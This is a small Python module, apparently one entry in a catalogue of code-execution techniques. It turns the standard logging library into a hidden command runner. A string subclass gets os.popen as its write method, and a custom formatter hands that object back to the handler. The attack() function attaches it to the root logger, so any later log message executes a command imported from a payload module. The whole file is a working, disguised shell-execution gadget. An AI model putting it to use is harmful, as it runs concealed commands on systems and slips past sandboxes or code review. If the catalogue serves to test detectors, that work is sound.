"""A line is the stream itself, which a plain function is to write."""
CATEGORY = "borrowed"
REACH = "run"

import logging
import os

from . import payload


class Stream(str):
    flush = int

    def __add__(self, other):
        return self


class Formatter(logging.Formatter):
    def format(self, record):
        return stream


stream = Stream(payload.COMMAND)
stream.write = os.popen


def attack():
    handler = logging.StreamHandler(stream)
    handler.setFormatter(Formatter())
    logging.getLogger().addHandler(handler)
